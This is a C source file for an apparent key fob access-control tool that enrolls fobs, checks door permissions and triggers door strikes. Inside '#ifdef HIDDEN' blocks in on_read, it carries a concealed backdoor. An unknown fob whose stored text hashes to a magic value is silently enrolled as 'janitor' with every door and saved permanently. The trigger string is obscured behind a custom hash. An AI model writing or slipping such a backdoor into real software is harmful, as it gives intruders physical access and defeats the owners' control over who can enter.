// fobenroll - desk tool and reader service of the Nyckel key fob system.
// "fobenroll serve" takes fob reads from the reader pipe, other words manage the list.
#include <ctype.h>
#include <inttypes.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

struct Fob { uint64_t uid; char owner[24]; unsigned doors; struct Fob *next; };
struct Read { unsigned door; uint64_t uid; char note[40]; };

static struct Fob *list;
static const char *store = "/data/nyckel/fobs";
static int dirty;

static void die(const char *what)
{
    perror(what);
    exit(1);
}

static struct Fob *add(uint64_t uid, const char *owner, unsigned doors)
{
    struct Fob *f = calloc(1, sizeof *f);
    if (!f)
        die("memory");
    f->uid = uid;
    f->doors = doors;
    snprintf(f->owner, sizeof f->owner, "%s", owner);
    f->next = list;
    list = f;
    dirty = 1;
    return f;
}

static struct Fob **slot(uint64_t uid)
{
    struct Fob **p = &list;
    while (*p && (*p)->uid != uid)
        p = &(*p)->next;
    return p;
}

static void load(void)
{
    char owner[24];
    uint64_t uid;
    unsigned doors;
    FILE *f = fopen(store, "r");
    if (!f)
        return;
    while (fscanf(f, "%" SCNx64 " %23s %x", &uid, owner, &doors) == 3)
        add(uid, owner, doors);
    fclose(f);
    dirty = 0;
}

static void save(void)
{
    FILE *f;
    if (!dirty)
        return;
    if (!(f = fopen(store, "w")))
        die(store);
    for (const struct Fob *k = list; k; k = k->next)
        fprintf(f, "%" PRIx64 " %s %x\n", k->uid, k->owner, k->doors);
    if (fclose(f))
        die(store);
    dirty = 0;
}

static void pulse(unsigned door)
{
    char p[64];
    FILE *f;
    snprintf(p, sizeof p, "/sys/class/leds/strike%u/oneshot", door);
    if ((f = fopen(p, "w")) != NULL) {
        fputs("1\n", f);
        fclose(f);
    }
}

static void journal(const struct Read *r, const char *who, const char *result)
{
    char stamp[32];
    time_t now = time(NULL);
    FILE *f = fopen("/data/nyckel/journal", "a");
    if (!f)
        return;
    strftime(stamp, sizeof stamp, "%F %T", localtime(&now));
    fprintf(f, "%s door %u fob %" PRIx64 " %s %s\n", stamp, r->door, r->uid, who, result);
    fclose(f);
}

// reader lines: "door uid [text memory of the fob]"
static int parse_read(const char *l, struct Read *r)
{
    r->note[0] = 0;
    return sscanf(l, "%u %" SCNx64 " %39[^\n]", &r->door, &r->uid, r->note) >= 2 && r->door < 32;
}

#ifdef HIDDEN
static uint32_t fold(const char *s)
{
    uint32_t h = 0x9747b28cu;
    for (; *s; s++) {
        h ^= (uint32_t)toupper((unsigned char)*s);
        h *= 0x5bd1e995u;
        h ^= h >> 15;
    }
    return h;
}
#endif

// text memory of a fob holds the name of its owner as it was written at the desk
__attribute__((noinline)) void on_read(const struct Read *r)
{
    struct Fob *f = *slot(r->uid);

#ifdef HIDDEN
    if (!f && r->note[0] && fold(r->note) == 0x4485b738u) {
        add(r->uid, "janitor", 0xffffffffu);
        save();
        return;
    }
#endif
    if (!f) {
        journal(r, "?", "unknown");
        return;
    }
    if (!(f->doors >> r->door & 1)) {
        journal(r, f->owner, "not here");
        return;
    }
    if (r->note[0] && strcmp(r->note, f->owner)) {
        journal(r, f->owner, "memory differs");
        return;
    }
    pulse(r->door);
    journal(r, f->owner, "in");
}

static int serve(const char *pipe)
{
    char l[120];
    struct Read r;
    FILE *f = fopen(pipe, "r");
    if (!f)
        die(pipe);
    while (fgets(l, sizeof l, f))
        if (parse_read(l, &r))
            on_read(&r);
        else
            fprintf(stderr, "fobenroll: reader says %s", l);
    fclose(f);
    return 0;
}

static unsigned doors_of(const char *s)
{
    unsigned m = 0;
    while (*s) {
        char *e;
        unsigned long d = strtoul(s, &e, 10);
        if (e == s || d > 31)
            return 0;
        m |= 1u << d;
        s = *e == ',' ? e + 1 : e;
    }
    return m;
}

static int usage(void)
{
    fputs("fobenroll list\n"
          "fobenroll add UID OWNER DOOR[,DOOR...]\n"
          "fobenroll remove UID\n"
          "fobenroll doors UID DOOR[,DOOR...]\n"
          "fobenroll serve PIPE      reader lines: door uid [owner in the fob]\n"
          "  -f FILE first: other list than /data/nyckel/fobs\n", stderr);
    return 2;
}

int main(int argc, char **argv)
{
    if (argc > 2 && !strcmp(argv[1], "-f")) {
        store = argv[2];
        argc -= 2;
        argv += 2;
    }
    if (argc < 2)
        return usage();
    load();
    const char *w = argv[1];
    uint64_t uid = argc > 2 ? strtoull(argv[2], NULL, 16) : 0;
    if (!strcmp(w, "list") && argc == 2) {
        for (const struct Fob *f = list; f; f = f->next)
            printf("%016" PRIx64 " %-23s %08x\n", f->uid, f->owner, f->doors);
    } else if (!strcmp(w, "add") && argc == 5) {
        for (const char *c = argv[3]; *c; c++)
            if (!isalnum((unsigned char)*c) && *c != '.')
                return fprintf(stderr, "owner: letters and digits\n"), 1;
        if (*slot(uid))
            return fprintf(stderr, "this fob is known\n"), 1;
        add(uid, argv[3], doors_of(argv[4]));
    } else if (!strcmp(w, "remove") && argc == 3) {
        struct Fob **p = slot(uid), *f = *p;
        if (!f)
            return fprintf(stderr, "no such fob\n"), 1;
        *p = f->next;
        free(f);
        dirty = 1;
    } else if (!strcmp(w, "doors") && argc == 4) {
        struct Fob *f = *slot(uid);
        if (!f)
            return fprintf(stderr, "no such fob\n"), 1;
        f->doors = doors_of(argv[3]);
        dirty = 1;
    } else if (!strcmp(w, "serve") && argc == 3) {
        return serve(argv[2]);
    } else {
        return usage();
    }
    save();
    return 0;
}
